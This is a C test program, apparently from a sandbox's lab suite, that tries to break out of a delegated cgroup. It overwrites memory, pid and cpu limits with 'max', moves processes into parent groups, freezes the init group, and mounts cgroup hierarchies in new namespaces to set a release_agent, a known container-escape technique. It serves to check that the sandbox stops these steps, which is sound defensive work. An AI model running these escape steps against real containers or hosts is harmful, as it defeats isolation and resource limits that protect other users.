/* SPDX-License-Identifier: MIT */
/*
 * cgroup-escape.c - leaves its cgroup, lifts its limits, takes others along
 *
 * Attack: out of the delegated cgroup, by each of the ways that there are
 * Lab: 07-cgroups
 * Stopped: above the delegated group nothing is visible in its cgroup
 *          namespace; its limits are files of its parent's user; a process
 *          moves only below a group where both ends may be written
 */
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "file.h"
#include "userns.h"

/* The sandbox's limit is 256. */
enum { OUTGROWN_MIB = 272 };

static const char group[] = "/sys/fs/cgroup";

static void lift(const char *dir)
{
	static const char *const limits[] = { "memory.max", "memory.swap.max",
					      "pids.max", "cpu.max",
					      "cgroup.max.descendants" };
	char path[256];

	for (size_t i = 0; i < sizeof(limits) / sizeof(limits[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, limits[i]);
		(void)file_write_at(AT_FDCWD, path, "max");
	}
	/* PID 1 of the sandbox, and then ourselves, upwards. */
	snprintf(path, sizeof(path), "%s/cgroup.procs", dir);
	(void)file_write_at(AT_FDCWD, path, "1");
	snprintf(path, sizeof(path), "%s/../cgroup.procs", dir);
	(void)file_write_at(AT_FDCWD, path, "0");
	snprintf(path, sizeof(path), "%s/../init/cgroup.procs", dir);
	(void)file_write_at(AT_FDCWD, path, "0");
	snprintf(path, sizeof(path), "%s/../init/cgroup.freeze", dir);
	(void)file_write_at(AT_FDCWD, path, "1");
}

/* Whoever is still limited does not come to the end of this. */
static void outgrow(void)
{
	for (size_t mib = 0; mib < OUTGROWN_MIB; mib++) {
		char *memory = malloc(1 << 20);

		if (!memory)
			return;
		memset(memory, 1, 1 << 20);
	}
	fputs("BROKEN: more memory than the limit\n", stderr);
}

int main(void)
{
	lift(group);
	lift("/proc/1/root/sys/fs/cgroup");

	/* As root of namespaces of our own, with a fresh mount. */
	(void)userns_become_root();
	if (unshare(CLONE_NEWNS | CLONE_NEWCGROUP) == 0) {
		(void)mkdir("/tmp/v2", 0755);
		(void)mkdir("/tmp/v1", 0755);
		(void)mount("cgroup", "/tmp/v2", "cgroup2", 0, NULL);
		(void)mount("cgroup", "/tmp/v1", "cgroup", 0, "none,name=x");
		lift("/tmp/v2");
		(void)file_write_at(AT_FDCWD, "/tmp/v1/release_agent",
				    "/bin/exercise");
	}

	outgrow();
	return 0;
}
